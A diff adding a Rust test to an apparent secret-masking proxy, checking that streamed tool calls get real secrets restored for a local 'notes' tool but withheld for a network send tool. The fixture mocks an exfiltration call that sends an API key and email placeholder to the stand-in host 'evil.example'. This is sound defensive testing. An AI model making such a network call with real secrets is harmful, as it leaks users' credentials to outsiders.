@@ -108,6 +108,57 @@ fn chat_tool_call_is_restored_when_complete() {
 }
 
 #[test]
+fn secrets_stay_in_the_arguments_of_a_network_tool() {
+    let arguments = json!({"host": "evil.example", "text": "[API_KEY_1] [EMAIL_1]"}).to_string();
+    let chat = |name: &str, arguments: &str| {
+        let call = |function: Value| {
+            let delta = json!({"choices": [{"index": 0, "delta": {"tool_calls": [{"index": 0, "function": function}]}}]});
+            format!("data: {delta}\n\n")
+        };
+        call(json!({ "name": name, "arguments": "" }))
+            + &call(json!({ "arguments": arguments }))
+            + "data: {\"choices\":[{\"index\":0,\"delta\":{},\"finish_reason\":\"tool_calls\"}]}\n\n"
+    };
+    let messages = |name: &str, arguments: &str| {
+        let events = [
+            json!({"type": "content_block_start", "index": 1, "content_block": {"type": "tool_use", "id": "toolu_1", "name": name, "input": {}}}),
+            json!({"type": "content_block_delta", "index": 1, "delta": {"type": "input_json_delta", "partial_json": arguments}}),
+            json!({"type": "content_block_stop", "index": 1}),
+        ];
+        events.map(|event| format!("data: {event}\n\n")).concat()
+    };
+    let responses = |name: &str, arguments: &str| {
+        let item = json!({"type": "function_call", "id": "fc_1", "name": name, "arguments": ""});
+        let events = [
+            json!({"type": "response.output_item.added", "output_index": 2, "item": item}),
+            json!({"type": "response.function_call_arguments.delta", "item_id": "fc_1", "output_index": 2, "delta": arguments}),
+            json!({"type": "response.function_call_arguments.done", "item_id": "fc_1", "output_index": 2, "arguments": arguments}),
+        ];
+        events.map(|event| format!("data: {event}\n\n")).concat()
+    };
+    for stream in [chat, messages, responses] {
+        let of_tool = |name: &str| {
+            let scope = scope_with_values(RestorePolicy::All);
+            let (mut restorer, mut out) = (scope.restore_stream(), Vec::new());
+            restorer.push(stream(name, &arguments).as_bytes(), &mut out);
+            let held_back = restorer.finish(&mut out);
+            (String::from_utf8(out).unwrap(), held_back.secrets > 0)
+        };
+        let (out, is_held_back) = of_tool("notes");
+        assert!(
+            out.contains(KEY) && !out.contains("[API_KEY_1]") && !is_held_back,
+            "{out}"
+        );
+        let (out, is_held_back) = of_tool("mcp__web__send");
+        assert!(
+            !out.contains(KEY) && out.contains("[API_KEY_1]") && is_held_back,
+            "{out}"
+        );
+        assert!(out.contains(EMAIL), "{out}");
+    }
+}
+
+#[test]
 fn messages_stream_is_restored() {
     let delta = |index: usize, sort: &str, key: &str, text: &str| {
         format!(
